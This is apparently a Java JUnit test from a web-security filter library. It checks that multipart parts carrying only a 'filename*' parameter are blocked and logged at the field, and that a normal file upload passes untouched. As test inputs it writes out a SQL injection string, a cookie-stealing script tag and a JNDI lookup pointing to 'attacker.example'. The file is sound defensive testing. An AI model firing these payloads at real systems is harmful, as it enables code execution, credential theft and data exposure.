package dev.bulwark.spring;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.testsupport.MultipartBody;
import dev.bulwark.testsupport.SecurityLog;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.Part;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.web.bind.annotation.PostMapping;
import org.springframework.web.bind.annotation.RestController;

/**
 * On Tomcat 11 as on Jetty, a multipart part is inspected as a field unless every container treats
 * it as a file: a part with only {@code filename*} is blocked for what it holds, and logged at the
 * field, while a real file upload reaches the application byte for byte.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class TomcatMultipartFileNameTest {

    private static final String BOUNDARY = "----bulwarkT8kq2LmZ0v";
    private static final String TYPE = "multipart/form-data; boundary=" + BOUNDARY;
    private static final Pattern INCIDENT_ID = Pattern.compile("\"incidentId\":\"([^\"]+)\"");

    private TomcatApplication application;

    /** Describes the parameters and parts the application sees. */
    @RestController
    static class Uploads {
        @PostMapping("/parts")
        String parts(HttpServletRequest request) throws Exception {
            StringBuilder seen = new StringBuilder("parameters=").append(request.getParameterMap().keySet());
            for (Part part : request.getParts()) {
                seen.append(";part=").append(part.getName()).append(',').append(part.getSubmittedFileName())
                        .append(',').append(sha256(part.getInputStream().readAllBytes()));
            }
            return seen.toString();
        }
    }

    @BeforeAll
    void start() {
        application = TomcatApplication.permittingAll(Uploads.class, "bulwark.deny-rules.level=standard");
    }

    @AfterAll
    void stop() {
        if (application != null) {
            application.close();
        }
    }

    @Test
    void blocksUnionSelectInFilenameStarPart() throws Exception {
        assertBlockedAndLoggedAtFieldQ(postExtendedFileNamePart("1' UNION SELECT password FROM users--"));
    }

    @Test
    void blocksScriptTagInFilenameStarPart() throws Exception {
        assertBlockedAndLoggedAtFieldQ(postExtendedFileNamePart("<script>alert(document.cookie)</script>"));
    }

    @Test
    void blocksJndiLookupInFilenameStarPart() throws Exception {
        assertBlockedAndLoggedAtFieldQ(postExtendedFileNamePart("${jndi:ldap://attacker.example/a}"));
    }

    @Test
    void passesAPlainFileUploadByteForByte() throws Exception {
        byte[] png = new byte[1024];
        for (int i = 0; i < png.length; i++) {
            png[i] = (byte) (i * 31 + 7);
        }

        HttpResponse<String> response = post(onePart("form-data; name=\"avatar\"; filename=\"a.png\"", "image/png", png));

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.body()).isEqualTo("parameters=[];part=avatar,a.png," + sha256(png));
    }

    private static byte[] onePart(String disposition, String contentType, byte[] content) {
        return MultipartBody.onePart(BOUNDARY, disposition, contentType, content);
    }

    private HttpResponse<String> postExtendedFileNamePart(String payload) throws Exception {
        return post(onePart("form-data; name=\"q\"; filename*=UTF-8''a", null, payload.getBytes(StandardCharsets.UTF_8)));
    }

    private static void assertBlockedAndLoggedAtFieldQ(HttpResponse<String> response) throws Exception {
        assertThat(response.statusCode()).isEqualTo(403);
        assertThat(response.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        Matcher incident = INCIDENT_ID.matcher(response.body());
        assertThat(incident.find()).isTrue();
        Assumptions.assumeTrue(SecurityLog.available(), "run through Maven, which sets the log file");
        assertThat(SecurityLog.line(incident.group(1)))
                .contains("dev.bulwark.security", "\"bulwark.location\":\"multipart:q\"", "\"event.action\":\"blocked\"");
    }

    private HttpResponse<String> post(byte[] body) throws Exception {
        return application.send(HttpRequest.newBuilder(application.uri("/parts"))
                .header("Content-Type", TYPE)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)));
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }
}
